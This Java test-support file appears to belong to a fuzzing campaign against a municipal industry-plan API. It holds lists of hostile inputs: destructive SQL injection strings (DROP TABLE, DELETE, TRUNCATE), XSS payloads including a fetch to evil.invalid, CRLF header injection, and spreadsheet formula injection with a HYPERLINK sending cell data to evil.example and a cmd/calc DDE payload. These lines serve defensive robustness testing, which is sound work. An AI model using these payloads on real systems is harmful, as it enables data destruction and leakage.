package jp.industryplans.campaign;

import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import jp.industryplans.common.MunicipalityCode;

/** Libraries of hostile values, each a list the generator samples from. */
final class Mutations {

    private Mutations() {
    }

    static final List<String> SQL_INJECTION = List.of(
            "' OR '1'='1",
            "'; DROP TABLE plan; --",
            "1; DELETE FROM indicator_value WHERE 1=1",
            "\" OR \"\"=\"",
            "') UNION SELECT id, key, title FROM plan --",
            "1' AND pg_sleep(0)::text = '",
            "%' OR 1=1 --",
            "$$; TRUNCATE change_log; $$",
            "\\'; UPDATE plan SET title='x'; --",
            "admin'/*",
            "1 OR 1=1",
            "'||(SELECT current_user)||'");

    static final List<String> HTML_INJECTION = List.of(
            "<script>alert(1)</script>",
            "\"><img src=x onerror=alert(1)>",
            "<svg/onload=alert(document.domain)>",
            "javascript:alert(1)",
            "<iframe src=\"https://evil.invalid\"></iframe>",
            "{{7*7}}${7*7}<%= 7*7 %>",
            "</title><script>fetch('//evil.invalid')</script>",
            "&lt;b&gt;&#x3C;script&#x3E;",
            "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>");

    /** Control characters as Java strings (escaped properly when they go into JSON). */
    static final List<String> CONTROL = List.of(
            "\u0000", "a\u0000b", "\u0007bell", "\u001b[31mred\u001b[0m", "line\r\nX-Injected: 1",
            "\u0008\u0008\u0008", "\u007f", "\u2028\u2029", "\ufeff", "\u202eevil", "tab\there", "\u0085next");

    /** Percent-encoded bytes that are not UTF-8. */
    static final List<String> INVALID_UTF8_PERCENT = List.of(
            "%FF", "%FE%FF", "%C3%28", "%E2%82", "%ED%A0%80", "%F8%88%80%80%80", "%C0%AF", "%80", "%E3%81", "a%FFb");

    /** Raw byte sequences that are not UTF-8. */
    static final List<byte[]> INVALID_UTF8_BYTES = List.of(
            new byte[] {(byte) 0xFF, (byte) 0xFE},
            new byte[] {(byte) 0xC3, (byte) 0x28},
            new byte[] {(byte) 0xE2, (byte) 0x82},
            new byte[] {(byte) 0xED, (byte) 0xA0, (byte) 0x80},
            new byte[] {(byte) 0xC0, (byte) 0xAF},
            new byte[] {(byte) 0x80},
            new byte[] {(byte) 0xF8, (byte) 0x88, (byte) 0x80, (byte) 0x80, (byte) 0x80},
            new byte[] {(byte) 0xE3, (byte) 0x81});

    static final List<String> PERCENT_CONTROL = List.of("%00", "a%00b", "%07", "%1B%5B31m", "%0D%0AX-Injected:%201",
            "%7F", "%08", "%0A");

    /** Fiscal years no one may write (the service's documented forms are read by FiscalYear.parse). */
    static final List<String> BAD_ERA_YEARS = List.of(
            "令和0年度", "R0", "R99", "R83", "令和83年度", "H0", "H46", "平成0年度", "昭和100", "S64", "S0", "昭和64年度",
            "大正5年度", "T5", "明治45", "M1", "99999", "-1", "0", "1925", "2101", "21", "R", "令和", "年度",
            "R元", "H元", "2021.5", "R3.5", "R-3", "2O21", "FY", "FY99999", "令和３年度度", "２１０１", "R 3 R",
            "12345678901234567890", "R99999999999", "x".repeat(41), "令和" + "1".repeat(30));

    /** Accepted forms that look odd: reads may answer 200 for these (documented), never 5xx. */
    static final List<String> ODD_BUT_DOCUMENTED_YEARS = List.of("２０２１年", "ＦＹ２０２１", "㋿3", "平成33年度", " 2021 ");

    static final List<String> MALFORMED_UUIDS = List.of(
            "not-a-uuid", "123", "00000000-0000-0000-0000-00000000000g", "00000000000000000000000000000000x",
            "{00000000-0000-0000-0000-000000000000}", "00000000-0000-0000-0000-0000000000000",
            "0000000-0000-0000-0000-000000000000", "zzzzzzzz-zzzz-zzzz-zzzz-zzzzzzzzzzzz", "-1", "null",
            "undefined", "a".repeat(300), "1-1-1-1-1", " 00000000-0000-0000-0000-000000000000");

    /** Malformed municipality codes (not a wrong check digit: those are computed). */
    static final List<String> MALFORMED_CODES = List.of(
            "13106", "1310677", "abcdef", "13106a", "-13106", "131 06", "1.3e+5", "0x1310", "", " ", "000000000000",
            "13106７", "131067;", "99999999999999999999");

    /** Real-looking codes whose last digit is wrong. */
    static List<String> wrongCheckDigits(List<String> firstFives) {
        List<String> codes = new ArrayList<>();
        for (String five : firstFives) {
            int good = MunicipalityCode.checkDigit(five);
            for (int d = 0; d < 10; d++) {
                if (d != good) {
                    codes.add(five + d);
                }
            }
        }
        return codes;
    }

    /** Spreadsheet formulas (OWASP CSV injection): stored as text, exported neutralised. */
    static final List<String> FORMULAS = List.of(
            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1", "=1+1");

    /** Numbers no figure column and no integer field can hold (1E+2147483647 once overflowed a digit count). */
    static final List<String> NUMBER_EXTREMES = List.of(
            "1E+2147483647", "-1E+2147483647", "1E-2147483647", "1e400", "-1e400", "12345678901234567",
            "0.00001", "9223372036854775808", "1E+16");

    /** Accept headers that are not media ranges at all. */
    static final List<String> MALFORMED_ACCEPTS = List.of(
            "", ",", ";", "text/", "/json", "*/*;q=abc", "application/json;;;", "application/json; q=2",
            "text/csv, ,", "\"quoted\"", "a".repeat(500), "*/*;q=0");

    static final List<String> PAGING_JUNK = List.of(
            "-1", "-2147483648", "-2147483649", "2147483648", "9223372036854775808", "99999999999999999999999",
            "1e3", "1.5", "abc", "", "0x10", " 1", "1 OR 1=1", "NaN", "Infinity", "１", "+5", "1,2", "0b1");

    static final List<String> BAD_SORTS = List.of(
            "unknownField", "-", ",,,", "title;DROP TABLE plan", "--title", "title desc", "+title", "id)--",
            "ｔｉｔｌｅ", "x".repeat(201), "title,".repeat(60));

    static String longString(int length) {
        StringBuilder sb = new StringBuilder(length);
        String unit = "長い文字列abc";
        while (sb.length() < length) {
            sb.append(unit);
        }
        sb.setLength(length);
        return sb.toString();
    }

    static String pct(String s) {
        return URLEncoder.encode(s, StandardCharsets.UTF_8).replace("+", "%20");
    }

    /** Path-segment encoding: like query encoding, and '/' stays encoded. */
    static String seg(String s) {
        return pct(s);
    }
}
